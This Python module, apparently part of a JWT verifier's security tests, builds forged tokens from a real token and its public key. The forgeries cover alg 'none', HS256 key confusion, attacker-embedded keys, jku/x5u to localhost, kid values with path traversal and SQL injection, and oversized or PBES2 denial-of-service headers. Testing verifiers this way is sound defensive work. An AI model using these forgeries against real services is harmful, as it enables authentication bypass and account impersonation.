"""Forged JWTs of every classic kind, made from a genuine one and the public key that verifies it."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc.jwk import ECKey


def b64(raw: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    """The bytes of base64url without padding."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def header_of(token: str) -> dict[str, Any]:
    """The header of a JWT, unverified."""
    return json.loads(unb64(token.split(".")[0]))


def with_header(token: str, signature: bytes | None = None, **changes: Any) -> str:
    """The token with another header and its old signature, or the one given."""
    _, payload, old = token.split(".")
    changed = {**header_of(token), **changes}
    segment = b64(json.dumps({k: v for k, v in changed.items() if v is not None}).encode())
    return f"{segment}.{payload}.{old if signature is None else b64(signature)}"


def with_claims(token: str, **changes: Any) -> str:
    """The token with other claims and its old signature."""
    header, payload, signature = token.split(".")
    claims = {**json.loads(unb64(payload)), **changes}
    return f"{header}.{b64(json.dumps(claims).encode())}.{signature}"


def signed_by(key: ECKey, token: str, **header: Any) -> str:
    """The token's claims, signed by a key of the attacker under whatever header."""
    changed = {**header_of(token), **header}
    segment = b64(json.dumps({k: v for k, v in changed.items() if v is not None}).encode())
    message = f"{segment}.{token.split('.')[1]}"
    der = key.private_key.sign(message.encode(), ec.ECDSA(SHA256()))
    r, s = decode_dss_signature(der)
    return f"{message}.{b64(r.to_bytes(32) + s.to_bytes(32))}"


def hs256(token: str, secret: bytes) -> str:
    """The token's claims under HS256 with a public key's bytes as the secret (O02)."""
    header = b64(json.dumps({**header_of(token), "alg": "HS256"}).encode())
    payload = token.split(".")[1]
    mac = hmac.new(secret, f"{header}.{payload}".encode(), hashlib.sha256).digest()
    return f"{header}.{payload}.{b64(mac)}"


def forgeries(token: str, public_jwk: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Yield (attack, forged token) for O01 to O07."""
    attacker = ECKey.generate_key("P-256")
    public = ECKey.import_key(public_jwk)
    for spelling in ("none", "None", "NONE", "nOnE", "noNe", "", "none ", "null"):
        yield f"O01-{spelling!r}", with_header(token, b"", alg=spelling)
    for name, secret in (
        ("pem", public.as_pem(private=False)),
        ("der", public.as_der(private=False)),
        ("jwk", json.dumps(public_jwk).encode()),
        ("jwks", json.dumps({"keys": [public_jwk]}).encode()),
    ):
        yield f"O02-{name}", hs256(token, secret)
    own = attacker.as_dict(private=False)
    yield "O03-embedded-jwk", signed_by(attacker, token, jwk=own)
    yield "O03-attackers-key", signed_by(attacker, token)
    yield "O04-jku", signed_by(attacker, token, jku="http://127.0.0.1:9/jwks")
    yield "O04-x5u", signed_by(attacker, token, x5u="http://127.0.0.1:9/cert")
    for name, kid in (
        ("path", "../../../../dev/null"),
        ("sql", "' OR 1=1 --"),
        ("long", "k" * 5000),
        ("number", 7),
        ("none", None),
    ):
        yield f"O05-kid-{name}", signed_by(attacker, token, kid=kid)
        yield f"O05-kid-{name}-old-signature", with_header(token, kid=kid)
    yield "O06-crit", with_header(token, crit=["x"], x=1)
    yield "O06-b64", with_header(token, b64=False, crit=["b64"])
    yield "O07-large-header", with_header(token, pad="x" * 20_000)
    yield "O07-large", token + "A" * 20_000
    for name, algorithm in (
        ("O08-pbes2", "PBES2-HS256+A128KW"),
        ("O09-rsa1_5", "RSA1_5"),
        ("O08-dir", "dir"),
    ):
        header = {"alg": algorithm, "enc": "A128GCM", "zip": "DEF", "p2c": 2**31 - 1}
        yield name, f"{b64(json.dumps(header).encode())}.AAAA.AAAA.AAAA.AAAA"
    yield "changed-claims", with_claims(token, sub="usr_somebody_else")
    yield "two-parts", token.rpartition(".")[0]
    yield "four-parts", token + ".e30"
    yield "padding", token + "="
    yield "empty", "..."
